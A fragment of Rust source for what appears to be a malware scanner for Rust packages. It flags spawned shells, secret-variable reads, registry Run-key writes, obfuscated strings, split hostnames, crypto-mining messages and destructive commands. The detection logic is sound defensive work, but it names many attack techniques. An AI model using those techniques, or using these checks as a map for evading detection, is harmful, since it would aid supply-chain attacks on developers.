            "set_mode" | "mode" if args.iter().any(has_exec_bits) => {
                self.push(
                    SignalKind::MakeExecutable {
                        target: receiver_tail(receiver),
                    },
                    line,
                );
            }
            // Options kept in a local and set one call at a time.
            "write" | "append" | "create" | "create_new" | "truncate"
                if args.first().is_some_and(|a| a.text() == "true")
                    && receiver.split('.').next().is_some_and(is_plain_name) =>
            {
                let local = receiver.split('.').next().unwrap_or_default();
                let option = format!(".{name}(true)");
                if let Some(frame) = self.frames.last_mut() {
                    let known = frame.writing_options.iter().position(|(l, _)| l == local);
                    match known {
                        Some(at) => frame.writing_options[at].1.push_str(&option),
                        None if frame.writing_options.len() < MAX_READ_PATHS => {
                            frame.writing_options.push((local.to_owned(), option));
                        }
                        None => {}
                    }
                }
            }
            "open"
                if (receiver.contains("OpenOptions")
                    || self
                        .frames
                        .last()
                        .is_some_and(|f| f.writing_options.iter().any(|(o, _)| o == receiver))) =>
            {
                // The options a local was given, where the chain is only its name.
                let set = self
                    .frames
                    .last()
                    .and_then(|f| f.writing_options.iter().find(|(o, _)| o == receiver))
                    .map(|(_, set)| set.clone());
                let receiver = set.as_deref().unwrap_or(receiver);
                if receiver.contains("write(true)") || receiver.contains("append(true)") {
                    let target = args.first().map(Arg::text).unwrap_or_default();
                    // Opened for writing, but neither created nor appended to: a file that exists
                    // is changed where it lies (or, created or not, one the function read first).
                    let opened_in_place = !["create(true)", "create_new(true)", "append(true)"]
                        .iter()
                        .any(|option| receiver.contains(option));
                    let in_place = receiver.contains("write(true)")
                        && !receiver.contains("append(true)")
                        && self.rewrites_parameter(&target, opened_in_place);
                    self.file_write(target, in_place, line);
                }
            }
            "decode" | "decode_vec" | "decode_to_vec"
                if DECODER_RECEIVERS.iter().any(|w| receiver.contains(w)) =>
            {
                self.push(
                    SignalKind::Decode {
                        how: format!("{}.{name}", receiver_tail(receiver)),
                    },
                    line,
                );
            }
            // The Windows registry (`winreg`): writing a value is how Run keys get set.
            "set_value" | "set_raw_value" | "create_subkey" | "create_subkey_with_flags"
                if receiver.contains("Reg")
                    || receiver.contains("HKEY")
                    || receiver.contains("key") =>
            {
                self.push(
                    SignalKind::FileWrite {
                        target: "the Windows registry".into(),
                    },
                    line,
                );
            }
            "decrypt" | "decrypt_vec" | "apply_keystream" => {
                self.push(
                    SignalKind::Decode {
                        how: format!(".{name}()"),
                    },
                    line,
                );
            }
            "host_name" | "get_hostname" => {
                self.push(
                    SignalKind::HostProfile {
                        how: format!(".{name}()"),
                    },
                    line,
                );
            }
            _ => {}
        }
    }

    pub fn macro_call(&mut self, name: &str, args: &[Arg], line: u32) {
        match name {
            "include_bytes" | "include_str" => {
                if let Some(Arg::Str(path)) = args.first() {
                    let scope = self.scope();
                    let context = self.current_context();
                    self.includes.push(Include {
                        path: path.clone(),
                        line,
                        scope,
                        context,
                        bytes: name == "include_bytes",
                    });
                }
            }
            "env" | "option_env" => {
                if let Some(Arg::Str(variable)) = args.first() {
                    self.variable(variable, line);
                }
            }
            "obfstr" | "obfstring" | "lc" | "lc_env" | "obfuscate" | "xorstr"
            | "encrypt_string" | "cryptify" => {
                self.push(
                    SignalKind::Decode {
                        how: format!("{name}! (string obfuscation)"),
                    },
                    line,
                );
            }
            "cmd" => self.spawn(args.first(), line, true),
            "format" => self.constants_put_together(name, args, line),
            "concat" => {
                self.constants_put_together(name, args, line);
                let pieces: Option<Vec<&str>> = args
                    .iter()
                    .map(|arg| match arg {
                        Arg::Str(piece) => Some(piece.as_str()),
                        _ => None,
                    })
                    .collect();
                if let Some(pieces) = pieces {
                    self.string_pieces(&pieces, line);
                }
            }
            _ => {}
        }
    }

    pub fn literal(&mut self, text: &str, line: u32) {
        self.mining_literal(text, line);
        self.push_literal(text, line);
        self.clipboard_mode(text);
        self.clipboard_program(text, line);
        if text.len() < 4 {
            if CI_VARIABLES.contains(&text) {
                self.push(
                    SignalKind::CiCheck {
                        variable: text.to_owned(),
                    },
                    line,
                );
            }
            return;
        }
        if text.starts_with("CARGO_FEATURE_")
            || text.starts_with("CARGO_CFG_")
            || text == "DEP_"
            || text.starts_with("DEP_")
        {
            if let Some(frame) = self.frames.last_mut() {
                frame.filters_cargo_variables = true;
            }
        }
        if CI_VARIABLES.contains(&text) {
            self.push(
                SignalKind::CiCheck {
                    variable: text.to_owned(),
                },
                line,
            );
        }
        if LOCALE_VARIABLES.contains(&text) || HOME_VARIABLES.contains(&text) {
            if let Some(frame) = self.frames.last_mut() {
                if frame.variable_names.len() < 8 && !frame.variable_names.iter().any(|n| n == text)
                {
                    frame.variable_names.push(text.to_owned());
                }
            }
        }
        if LOCALE_PATHS.contains(&text) {
            self.push(
                SignalKind::LocaleCheck {
                    how: text.to_owned(),
                },
                line,
            );
        }
        if looks_like_address_pattern(text) {
            self.push(
                SignalKind::AddressPattern {
                    pattern: text.chars().take(60).collect(),
                },
                line,
            );
        }
        if looks_like_key_pattern(text) {
            self.push(
                SignalKind::KeyPattern {
                    pattern: text.chars().take(60).collect(),
                },
                line,
            );
        }
        if RECURSIVE_REMOVE_FLAGS.contains(&text) {
            self.push(
                SignalKind::Destroy {
                    how: format!("`rm {text}`"),
                },
                line,
            );
        }
        let found = literal_signals(text);
        // Text bound for an auto-start location is a script that will run: the file's literals
        // are read as commands, as when a shell is spawned.
        if found
            .iter()
            .any(|k| matches!(k, SignalKind::Persistence { .. }))
        {
            self.saw_shell = true;
        }
        self.push_all(found, line);
        if decode::is_opaque_blob(text) {
            self.push(SignalKind::OpaqueBlob { length: text.len() }, line);
        }
        if text.len() >= 12 && !text.contains(' ') || text.contains("//:") {
            let found = if self.take_budget(text.len().min(1 << 16)) {
                decode::string_signals(text, Hints::default())
            } else {
                Vec::new()
            };
            self.push_all(found, line);
        }
        // Any string may be XORed, shifted or reversed; decoded once the function's (or the
        // file's) hints are known, and only then.
        if (4..=4096).contains(&text.len()) {
            self.pend(PendingLiteral::Text(text.to_owned()), line);
        }
        if self.literals.len() < 10_000 {
            let scope = self.scope();
            let context = self.current_context();
            self.literals.push((text.to_owned(), line, scope, context));
        }
        if self.saw_shell && looks_like_command(text) {
            self.push_all(shell_signals(text), line);
        } else if is_shell_script(text) {
            // A shell script spelled out is shell code wherever it goes: written to a hook, a
            // cargo runner or a temporary file, it runs as surely as a `sh -c` argument.
            self.push_all(shell_signals(text), line);
        }
    }

    /// A byte string: readable in the source, so only an executable in it, or XORed data, hides
    /// anything.
    pub fn byte_literal(&mut self, bytes: &[u8], line: u32) {
        // A key is as often spelled as a word (`const KEY: &[u8; 7] = b"compgen";`) as in
        // numbers: tried on the file's byte arrays like theirs.
        if self.may_decode && (2..=MAX_XOR_KEY).contains(&bytes.len()) && self.xor_keys.len() < 32 {
            self.xor_keys.push(bytes.to_vec());
        }
        if let Some(format) = decode::embedded_executable(bytes) {
            self.push(
                SignalKind::EmbeddedExecutable {
                    what: format!("{format} bytes in a literal"),
                },
                line,
            );
            return;
        }
        // Sealed bytes spelled as escapes (`b"\x1a\xcc…"`) are as opaque as an array of them.
        self.opaque_array(bytes, line);
        // Readable bytes hide nothing as they are: decoded like any string, only when the code
        // around them XORs, shifts or reverses.
        if (4..=4096).contains(&bytes.len()) {
            let literal = match std::str::from_utf8(bytes) {
                Ok(text) => PendingLiteral::Text(text.to_owned()),
                Err(_) => PendingLiteral::Bytes(bytes.to_vec()),
            };
            self.pend(literal, line);
        }
    }

    /// A literal to decode once the hints of its function (or file) are known.
    fn pend(&mut self, literal: PendingLiteral, line: u32) {
        if !self.may_decode {
            return;
        }
        match self.frames.last_mut() {
            Some(frame) => match literal {
                PendingLiteral::Bytes(bytes) if frame.pending_bytes.len() < 256 => {
                    frame.pending_bytes.push((bytes, line));
                }
                PendingLiteral::Text(text) if frame.pending_strings.len() < 256 => {
                    frame.pending_strings.push((text, line));
                }
                _ => {}
            },
            None => {
                let context = self.current_context();
                self.defer(literal, line, None, context);
            }
        }
    }

    /// A string kept in pieces: an array of string literals (`["ht", "tps://", "relay.exa", …]`)
    /// or a `concat!` of them. Where the pieces joined name a destination whose host is cut
    /// inside one of its labels (`relay.exa` + `mple.net`), splitting the host was hiding it; a
    /// host put together from whole labels (`"api."`, `"github.com"`) is how URLs are built.
    /// Lists are told apart from pieces by their items: where two or more items name
    /// destinations by themselves (a list of mirrors), joining them means nothing.
    pub fn string_pieces(&mut self, pieces: &[&str], line: u32) {
        if !(2..=MAX_PIECES).contains(&pieces.len())
            || pieces.iter().map(|p| p.len()).sum::<usize>() > MAX_JOINED_LEN
        {
            return;
        }
        let destinations = |text: &str| {
            decode::indicators(text)
                .into_iter()
                .filter(|kind| matches!(kind, SignalKind::Destination { .. }))
                .collect::<Vec<_>>()
        };
        let telling = pieces
            .iter()
            .filter(|piece| !destinations(piece).is_empty())
            .count();
        if telling > 1 {
            return;
        }
        let joined = pieces.concat();
        // A ref spec split up (`concat!("+refs/", "heads/*:refs/", "heads/*")`); an array of
        // whole ones is read one by one.
        if !pieces.iter().any(|piece| selects_every_ref(piece)) {
            self.push_literal(&joined, line);
        }
        // Where each piece but the first starts in the joined text.
        let cuts: Vec<usize> = pieces
            .iter()
            .scan(0, |at, piece| {
                *at += piece.len();
                Some(*at)
            })
            .take(pieces.len() - 1)
            .collect();
        let split: Vec<SignalKind> = destinations(&joined)
            .into_iter()
            .filter(|kind| match kind {
                SignalKind::Destination { target, .. } => {
                    let host = host_of(target);
                    !host.is_empty() && cuts_a_label(&joined, host, &cuts)
                }
                _ => false,
            })
            .collect();
        if split.is_empty() {
            return;
        }
        self.push_all(split, line);
        self.push(
            SignalKind::HiddenIndicator {
                encoding: format!("{} string pieces joined", pieces.len()),
                decoded: joined.chars().take(80).collect(),
            },
            line,
        );
    }

    /// `NAME.concat()` (or `.join("")`) of a constant of the package defined as string literals:
    /// its pieces, joined.
    fn joined_constant(&mut self, receiver: &str, line: u32) {
        let Some(constants) = self.constants else {
            return;
        };
        let Some(name) = constant_receiver(receiver) else {
            return;
        };
        if !is_constant_name(name) {
            return;
        }
        let texts: Option<Vec<String>> = constants
            .lookup_anywhere(name)
            .into_iter()
            .map(|literal| match literal {
                Literal::Text(text) => Some(text),
                Literal::Bytes(_) => None,
            })
            .collect();
        if let Some(texts) = texts {
            let pieces: Vec<&str> = texts.iter().map(String::as_str).collect();
            self.string_pieces(&pieces, line);
        }
    }

    /// Reports sealed bytes (see [`decode::is_opaque_array`]), up to [`MAX_OPAQUE_ARRAYS`].
    fn opaque_array(&mut self, bytes: &[u8], line: u32) {
        if self.opaque_arrays < MAX_OPAQUE_ARRAYS && decode::is_opaque_array(bytes) {
            self.opaque_arrays += 1;
            self.push(
                SignalKind::OpaqueConstant {
                    length: bytes.len(),
                },
                line,
            );
        }
    }

    /// An array of integer literals that all fit in a byte.
    pub fn byte_array(&mut self, bytes: &[u8], line: u32) {
        self.bytes(bytes, line);
    }

    fn bytes(&mut self, bytes: &[u8], line: u32) {
        if self.may_decode && (2..=MAX_XOR_KEY).contains(&bytes.len()) && self.xor_keys.len() < 32 {
            self.xor_keys.push(bytes.to_vec());
        }
        if bytes.len() < 4 {
            return;
        }
        if self.may_decode && bytes.len() <= 4096 && self.xor_data.len() < 256 {
            let (scope, context) = (self.scope(), self.current_context());
            self.xor_data.push(Deferred {
                literal: PendingLiteral::Bytes(bytes.to_vec()),
                line,
                scope,
                context,
            });
        }
        if let Some(format) = decode::embedded_executable(bytes) {
            self.push(
                SignalKind::EmbeddedExecutable {
                    what: format!("{format} bytes in a literal"),
                },
                line,
            );
            return;
        }
        let found = decode::byte_signals(bytes, Hints::default());
        if !found.is_empty() {
            self.push_all(found, line);
            return;
        }
        self.opaque_array(bytes, line);
        if bytes.len() <= MAX_KEPT_TABLE.max(4096) {
            let values: Vec<i64> = bytes.iter().map(|b| i64::from(*b)).collect();
            if self.table(values, line) {
                return;
            }
        }
        if bytes.len() <= 4096 {
            self.pend(PendingLiteral::Bytes(bytes.to_vec()), line);
        }
    }

    /// An array of integers wider than bytes (`[u16; N]`, `&[u32]`): text kept as numbers by a
    /// map that known plaintext gives away (see [`decode::table_signals`]).
    pub fn integer_table(&mut self, values: &[i64], line: u32) {
        self.table(values.to_vec(), line);
    }

    /// Reads a table of numbers by known plaintext, or keeps it for a map a sibling gives away;
    /// says whether it spelled something.
    fn table(&mut self, values: Vec<i64>, line: u32) -> bool {
        if let Some(map) = decode::table_map(&values) {
            if !self.table_maps.contains(&map) && self.table_maps.len() < 8 {
                self.table_maps.push(map);
            }
            let found = decode::read_table(&values, map);
            self.push_all(found, line);
            return true;
        }
        if (4..=MAX_KEPT_TABLE).contains(&values.len()) && self.tables.len() < MAX_KEPT_TABLES {
            let (scope, context) = (self.scope(), self.current_context());
            self.tables.push((values, line, scope, context));
        }
        false
    }

    /// The file's tables read through the maps its other tables gave away.
    fn read_tables_with_maps(&mut self) {
        if self.table_maps.is_empty() {
            return;
        }
        let maps = std::mem::take(&mut self.table_maps);
        for (values, line, scope, context) in std::mem::take(&mut self.tables) {
            let found = maps
                .iter()
                .map(|map| decode::table_signals_with(&values, *map))
                .find(|found| !found.is_empty())
                .unwrap_or_default();
            for kind in found {
                let signal = self.make(kind, line, scope, context);
                self.signals.push(signal);
            }
        }
    }

    pub fn xor(&mut self) {
        if let Some(frame) = self.frames.last_mut() {
            frame.hints.xor = true;
        }
    }

    pub fn char_arithmetic(&mut self) {
        if let Some(frame) = self.frames.last_mut() {
            frame.hints.char_arithmetic = true;
        }
    }

    /// An integer literal: a UNIX time of this era is a moment the code waits for.
    pub fn integer(&mut self, value: u64, line: u32) {
        if FIXED_MOMENTS.contains(&value) {
            self.push(
                SignalKind::FixedMoment {
                    what: format!("UNIX time {value}"),
                },
                line,
            );
        }
    }

    pub fn reversal(&mut self) {
        if let Some(frame) = self.frames.last_mut() {
            frame.hints.reverse = true;
        }
    }

    /// A `.push(…)` with two arguments: `git2`'s `Remote::push(refspecs, options)`, where a
    /// collection's takes one.
    pub fn two_argument_push(&mut self) {
        if let Some(frame) = self.frames.last_mut() {
            frame.pushes = true;
        }
    }

    /// Notes the pieces of a push of every ref (see [`RepositoryPush`]).
    fn push_literal(&mut self, text: &str, line: u32) {
        let every_ref = || selects_every_ref(text).then(|| (text.to_owned(), line));
        match self.frames.last_mut() {
            Some(frame) if text == "push" => frame.pushes = true,
            Some(frame) => {
                if frame.all_refs.is_none() {
                    frame.all_refs = every_ref();
                }
            }
            None => {
                if self.push.file_all_refs.is_none() {
                    self.push.file_all_refs = every_ref();
                }
            }
        }
    }

    /// Finishes the file: shell analysis of literals seen before a shell spawn.
    /// Notes the words of a mining pool's protocol, alone or inside a message written as one
    /// literal; a stratum method is a signal at once.
    fn mining_literal(&mut self, text: &str, line: u32) {
        if text.len() > 4096 {
            return;
        }
        self.evasion(text, line);
        // A share's hash is often a field of its own (`json!({… "result": hash})`); as a word
        // of a longer literal it counts only beside the other fields (below).
        if text == "result" {
            self.mining.result = true;
            self.mining.share_lines[2] = Some(line);
            self.mining.note_share_line();
            return;
        }
        // Most literals hold none of the words: one search says so.
        if !MINING_WORDS.is_match(text) {
            return;
        }
        let words = text
            .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-')));
        for word in words.filter(|w| (4..=20).contains(&w.len())) {
            let lower = word.to_ascii_lowercase();
            if STRATUM_METHODS.binary_search(&lower.as_str()).is_ok() {
                self.push(
                    SignalKind::MiningProtocol {
                        what: format!("the stratum method `{word}`"),
                    },
                    line,
                );
                return;
            } else if MINING_ALGORITHMS.binary_search(&lower.as_str()).is_ok() {
                self.mining.algorithm.get_or_insert((word.to_owned(), line));
            } else if word == "job_id" {
                self.mining.job_id = true;
                self.mining.share_lines[0] = Some(line);
                self.mining.note_share_line();
            } else if word == "nonce" {
                self.mining.nonce.get_or_insert(line);
                self.mining.share_lines[1] = Some(line);
                self.mining.note_share_line();
            } else if word == "result" {
                self.mining.result = true;
                self.mining.share_lines[2] = Some(line);
                self.mining.note_share_line();
            }
        }
    }

    pub fn finish(mut self) -> (Vec<Signal>, CodeMetrics, Vec<Include>, CallGraph) {
        // A proof-of-work algorithm named where work is submitted by job and nonce: a miner
        // speaking to its pool from inside the program.
        // Without the algorithm's name, the share itself says it: a job's id, the nonce found
        // and the hash it gives (`job_id`, `nonce`, `result`) are what a pool is sent, whatever
        // the hashing function (a home-made one has no name to look for).
        let share = match (self.mining.algorithm.take(), self.mining.nonce) {
            (Some((algorithm, line)), Some(_)) if self.mining.job_id => Some((
                format!("submits mining work (`job_id`, `nonce`) for `{algorithm}`"),
                line,
            )),
            (None, Some(line))
                if self.mining.job_id && self.mining.result && self.mining.one_message =>
            {
                Some((
                    "submits mining shares (`job_id`, `nonce`, `result`)".to_owned(),
                    line,
                ))
            }
            _ => None,
        };
        if let Some((what, line)) = share {
            let signal = self.make(
                SignalKind::MiningProtocol { what },
                line,
                None,
                self.context,
            );
            self.signals.push(signal);
        }
        while !self.frames.is_empty() {
            self.leave_fn();
        }
        for (scope, context, own) in std::mem::take(&mut self.push.pushing) {
            if let Some((how, line)) = own.or_else(|| self.push.file_all_refs.clone()) {
                let signal = self.make(
                    SignalKind::PushesRepository {
                        how: format!("`{how}`"),
                    },
                    line,
                    Some(scope),
                    context,
                );
                self.signals.push(signal);
            }
        }
        self.decode_deferred();
        self.decode_with_keys();
        self.read_tables_with_maps();
        // A `Command::new` outside any function that nothing runs is not a spawn.
        self.signals.retain(
            |s| !matches!(&s.kind, SignalKind::Spawn { program, .. } if program.starts_with('?')),
        );
        if self.saw_shell {
            let literals = std::mem::take(&mut self.literals);
            for (text, line, scope, context) in literals {
                if looks_like_command(&text) {
                    for kind in shell_signals(&text) {
                        let signal = self.make(kind, line, scope, context);
                        if !self.signals.contains(&signal) {
                            self.signals.push(signal);
                        }
                    }
                }
            }
        }
        (self.signals, self.metrics, self.includes, self.graph)
    }

    // ---- helpers -----------------------------------------------------------------------------

    fn variable(&mut self, name: &str, line: u32) {
        if CI_VARIABLES.contains(&name) {
            self.push(
                SignalKind::CiCheck {
                    variable: name.to_owned(),
                },
                line,
            );
        } else if LOCALE_VARIABLES.contains(&name) {
            self.push(
                SignalKind::LocaleCheck {
                    how: format!("the {name} variable"),
                },
                line,
            );
        } else if HOME_VARIABLES.contains(&name) {
            self.push(
                SignalKind::UserDirectory {
                    how: format!("the {name} variable"),
                },
                line,
            );
        } else if TOOLCHAIN_HOME_VARIABLES.contains(&name) {
            self.push(
                SignalKind::ToolchainHome {
                    how: format!("the {name} variable"),
                    joined: false,
                },
                line,
            );
        } else if HOST_VARIABLES.contains(&name) {
            self.push(
                SignalKind::HostProfile {
                    how: format!("the {name} variable"),
                },
                line,
            );
        } else if is_secret_variable(name) {
            self.push(
                SignalKind::SecretVariable {
                    name: name.to_owned(),
                },
                line,
            );
        }
    }

    fn spawn(&mut self, program_arg: Option<&Arg>, line: u32, definite: bool) {
        let (name, class) = match program_arg {
            Some(Arg::Str(literal)) => {
                let name = literal.trim();
                (name.to_owned(), classify_program(name))
            }
            Some(other) => {
                let text = other.text();
                // The user's shell read in place (`Command::new(env::var("SHELL")?)`) is a
                // shell; programs named by the build environment (`$CC`, `$RUSTC`) are the
                // toolchain.
                let reads_variable = |name: &str| {
                    (text.contains("var(") || text.contains("var_os("))
                        && text.contains(&format!("\"{name}\""))
                };
                let class = if reads_variable("SHELL") || reads_variable("COMSPEC") {
                    ProgramClass::Shell
                } else if text.contains("env::var")
                    || text.contains("var_os")
                    || text.contains("which")
                {
                    ProgramClass::BuildTool
                } else {
                    ProgramClass::Computed
                };
                (text, class)
            }
            None => ("?".to_owned(), ProgramClass::Computed),
        };
        // A scheduler's command lines count too, once it is seen to install something (see
        // `spawn_arguments`).
        if matches!(class, ProgramClass::Shell) {
            self.saw_shell = true;
        }
        // Unconfirmed spawns carry a `?` until the function is seen to run them.
        let program = if definite {
            name.clone()
        } else {
            format!("?{name}")
        };
        self.push(SignalKind::Spawn { program, class }, line);
        // A program whose name the code works out from a table of numbers
        // (`Command::new(label(&[18, 7]))`) is hidden as surely as one decoded from base64,
        // whatever the decoding function does.
        if definite && class == ProgramClass::Computed && names_a_number_table(&name) {
            self.push(
                SignalKind::HiddenIndicator {
                    encoding: "a program name computed from a table of numbers".to_owned(),
                    decoded: name.chars().take(80).collect(),
                },
                line,
            );
        }
        let base = name
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(&name)
            .to_ascii_lowercase();
        let lower = base.trim_end_matches(".exe");
        if let Some((_, write)) = CLIPBOARD_PROGRAMS.iter().find(|(p, _)| *p == lower) {
            self.push(
                SignalKind::Clipboard {
                    how: format!("runs `{lower}`"),
                    write: *write,
                },
                line,
            );
        }
        if LOCALE_PROGRAMS.contains(&lower) {
            self.push(
                SignalKind::LocaleCheck {
                    how: format!("runs `{lower}`"),
                },
                line,
            );
        }
        if matches!(lower, "del" | "rd" | "rm" | "rmdir" | "shred") {
            self.push(
                SignalKind::Destroy {
                    how: format!("runs `{lower}`"),
                },
                line,
            );
        }
        match class {
            ProgramClass::Downloader => {
                self.push(
                    SignalKind::Network {
                        how: format!("runs `{lower}`"),
                    },
                    line,
                );
            }
            ProgramClass::Recon => {
                let kind = if ENVIRONMENT_PROGRAMS.contains(&lower) {
                    SignalKind::EnvHarvest {
                        how: format!("runs `{lower}`"),
                    }
                } else {
                    SignalKind::HostProfile {
                        how: format!("runs `{lower}`"),
                    }
                };
                self.push(kind, line);
            }
            ProgramClass::Persistence => {
                self.push(
                    SignalKind::Persistence {
                        what: format!("`{lower}`"),
                    },
                    line,
                );
                self.push(
                    SignalKind::FileWrite {
                        target: format!("through `{lower}`"),
                    },
                    line,
                );
            }
            _ => {}
        }
        if let Some(Arg::Str(literal)) = program_arg {
            // `Command::new("sh -c 'curl …'")` will not run, but says what was meant.
            if literal.contains(' ') {
                self.push_all(shell_signals(literal), line);
            } else {
                self.push_all(literal_signals(literal), line);
            }
        }
        let interpreter = matches!(program_arg, Some(Arg::Str(program)) if is_interpreter(program));
        let python = matches!(program_arg, Some(Arg::Str(program))
            if program.rsplit(['/', '\\']).next().unwrap_or(program).to_ascii_lowercase().starts_with("python"));
        if let Some(frame) = self.frames.last_mut() {
            frame.spawn = Some(PendingSpawn {
                class,
                interpreter,
                python,
                expects_script: false,
                positional_seen: false,
                expects_encoded: false,
                launches: matches!(program_arg, Some(Arg::Str(program)) if is_launcher(program)),
                definite,
                queried: false,
                clipboard_output: false,
                clipboard_written: false,
                program: match program_arg {
                    Some(Arg::Str(program)) => program
                        .rsplit(['/', '\\'])
                        .next()
                        .unwrap_or(program)
                        .trim_end_matches(".exe")
                        .to_ascii_lowercase(),
                    _ => String::new(),
                },
            });
            if definite {
                frame.runs_command = true;
            }
        }
    }

    /// A program started to pack a directory tree or a repository into one file (`tar c`,
    /// `zip -r`, `7z a`, `git bundle create`, `git archive`): a walk of what it packs, and for
    /// `git`, of the repository it runs in.
    fn archiving(&mut self, arguments: &[String], line: u32) {
        let Some(program) = self
            .frames
            .last()
            .and_then(|f| f.spawn.as_ref())
            .map(|spawn| spawn.program.clone())
        else {
            return;
        };
        let first = arguments.first().map(String::as_str).unwrap_or("");
        if !packs(&program, arguments) {
            return;
        }
        self.push(
            SignalKind::WalksFiles {
                how: format!("`{program} {first}` packs a directory tree into one file"),
            },
            line,
        );
        if program == "git" {
            self.push(
                SignalKind::WorkingDirectory {
                    how: format!("`git {first}` packs the repository it runs in"),
                },
                line,
            );
        }
    }

    /// `.arg(…)`/`.args([…])` of the last spawn in this function.
    ///
    /// A shell's arguments that are not literals (`.args(["-c", line])`, `.arg(&line)`) are a
    /// command line computed at run time: what the shell will do is decided elsewhere.
    fn spawn_arguments(&mut self, args: &[Arg], line: u32) {
        // A launcher's program: from here on, the spawn is that program's.
        let launcher = self
            .frames
            .last()
            .and_then(|f| f.spawn.as_ref())
            .filter(|spawn| spawn.launches)
            .map(|spawn| spawn.definite);
        if let Some(definite) = launcher {
            if let Some((at, program)) = launched_program(args) {
                self.spawn(Some(&program), line, definite);
                // The program's own arguments: what follows it in its array, then the rest.
                let mut rest: Vec<Arg> = Vec::new();
                if let (Arg::Expr(array), Arg::Str(name)) = (&args[at], &program) {
                    let listed = quoted_strings(array);
                    if let Some(position) = listed.iter().position(|s| s == name) {
                        rest.extend(listed[position + 1..].iter().cloned().map(Arg::Str));
                    }
                }
                rest.extend(args[at + 1..].iter().cloned());
                self.spawn_arguments(&rest, line);
                return;
            }
        }
        let mut strings: Vec<String> = Vec::new();
        for arg in args {
            match arg {
                Arg::Str(s) => strings.push(s.clone()),
                Arg::Expr(e) => {
                    // `.args(["-c", "…"])` arrives as one array expression.
                    strings.extend(quoted_strings(e));
                }
                _ => {}
            }
        }
        let computed: Vec<String> = args
            .iter()
            .filter_map(|arg| match arg {
                Arg::Expr(e) if has_identifier_outside_strings(e) => Some(e.clone()),
                _ => None,
            })
            .collect();
        let Some((class, interpreter)) = self
            .frames
            .last()
            .and_then(|f| f.spawn.as_ref())
            .map(|spawn| (spawn.class, spawn.interpreter))
        else {
            return;
        };
        self.archiving(&strings, line);
        // `xclip` and `xsel` write the clipboard when told to read their input (`-i`); the
        // program alone says only that the clipboard is used.
        // `xclip` and `xsel` write the clipboard unless told to print it (`-o`): their name
        // alone was taken for a read, which their arguments settle. What an earlier argument
        // said is kept (`.arg("-selection").arg("-o")`).
        let clipboard_tool = self
            .frames
            .last()
            .and_then(|f| f.spawn.as_ref())
            .map(|spawn| {
                (
                    spawn.program.trim_end_matches(".exe").to_owned(),
                    spawn.clipboard_output,
                    spawn.clipboard_written,
                )
            })
            .filter(|(program, _, _)| CLIPBOARD_EITHER_WAY.contains(&program.as_str()));
        if let Some((program, output_before, written_before)) = clipboard_tool {
            let output = output_before
                || strings
                    .iter()
                    .any(|s| CLIPBOARD_OUTPUT_FLAGS.contains(&s.as_str()));
            let read = format!("runs `{program}`");
            let write = format!("runs `{program}` to write it");
            let mode = |s: &Signal, how: &str, writes: bool| matches!(&s.kind, SignalKind::Clipboard { how: h, write } if h == how && *write == writes);
            if output && written_before {
                if let Some(at) = self.signals.iter().rposition(|s| mode(s, &write, true)) {
                    self.signals.remove(at);
                }
                self.push(
                    SignalKind::Clipboard {
                        how: read,
                        write: false,
                    },
                    line,
                );
            } else if !output && !written_before {
                if let Some(at) = self.signals.iter().rposition(|s| mode(s, &read, false)) {
                    self.signals.remove(at);
                }
                self.push(
                    SignalKind::Clipboard {
                        how: write,
                        write: true,
                    },
                    line,
                );
            }
            if let Some(spawn) = self.frames.last_mut().and_then(|f| f.spawn.as_mut()) {
                spawn.clipboard_output = output;
                spawn.clipboard_written = !output;
            }
        }
        // Computed, and where the shell takes a command line: after `-c`, `/C`, `-Command` (in
        // the same array, or an earlier `.arg`), not a script's path (`sh configure`).
        let script_flag =
            |s: &String| SHELL_SCRIPT_FLAGS.contains(&s.to_ascii_lowercase().as_str());
        let after_flag = self
            .frames
            .last()
            .and_then(|f| f.spawn.as_ref())
            .is_some_and(|spawn| spawn.expects_script)
            || strings.iter().any(script_flag);
        let evaluates = class == ProgramClass::Shell || interpreter;
        // A shell or an interpreter told to read its program from its input (`python3 -`,
        // `sh -s`): what is written to its input is its program, so its handles are a shell's
        // (data flow follows what is written there).
        // The first argument that is not an option decides: `-` (or a shell's `-s`) before any
        // script path, module (`-m`) or inline program (`-c`).
        let from_input = |s: &str| s == "-" || (class == ProgramClass::Shell && s == "-s");
        let reads_program_from_input = evaluates
            && strings
                .iter()
                .find(|s| {
                    from_input(s)
                        || !s.starts_with('-')
                        || ["-c", "-m", "-e", "-E", "-r"].contains(&s.as_str())
                })
                .is_some_and(|s| from_input(s));
        if reads_program_from_input && class != ProgramClass::Shell {
            self.push(
                SignalKind::Spawn {
                    program: "an interpreter reading its program from its input".into(),
                    class: ProgramClass::Shell,
                },
                line,
            );
        }
        if let (true, Some(expr), true) = (evaluates, computed.first(), after_flag) {
            let expr: String = expr.chars().take(60).collect();
            self.push(SignalKind::ShellComputed { expr }, line);
        }
        // A script's path handed to a shell or an interpreter (`sh <path>`, `powershell -File
        // <path>`): the file it names runs as its program, as a program started from a path
        // does (what was written into it is what runs). Only where nothing but options comes
        // before it (`sh configure` names its script in a literal).
        let option = |s: &String| s.starts_with('-') || (s.starts_with('/') && s.len() <= 3);
        let only_options = strings.iter().all(option);
        let positional_before = self
            .frames
            .last()
            .and_then(|f| f.spawn.as_ref())
            .is_some_and(|spawn| spawn.positional_seen);
        if let Some(spawn) = self.frames.last_mut().and_then(|f| f.spawn.as_mut()) {
            spawn.positional_seen |= !computed.is_empty() || !strings.iter().all(option);
        }
        if let (true, Some(expr), false, false, true, false) = (
            evaluates,
            computed.first(),
            after_flag,
            reads_program_from_input,
            only_options,
            positional_before,
        ) {
            let expr: String = expr.chars().take(60).collect();
            self.push(
                SignalKind::ExecComputed {
                    target: format!("{expr} {}", super::score::SCRIPT_RUN),
                },
                line,
            );
        }
        let Some(spawn) = self.frames.last_mut().and_then(|f| f.spawn.as_mut()) else {
            return;
        };
        let mut found = Vec::new();
        for s in &strings {
            let lower = s.to_ascii_lowercase();
            if spawn.expects_encoded {
                spawn.expects_encoded = false;
                found.extend(encoded_powershell(s));
                continue;
            }
            if spawn.expects_script || (class == ProgramClass::Shell && looks_like_command(s)) {
                spawn.expects_script = false;
                found.extend(shell_signals(s));
                continue;
            }
            let inline_flag = if spawn.interpreter {
                INTERPRETER_INLINE_FLAGS.contains(&s.as_str()) && (s != "-c" || spawn.python)
            } else {
                class == ProgramClass::Shell && SHELL_SCRIPT_FLAGS.contains(&lower.as_str())
            };
            if inline_flag {
                spawn.expects_script = true;
                continue;
            }
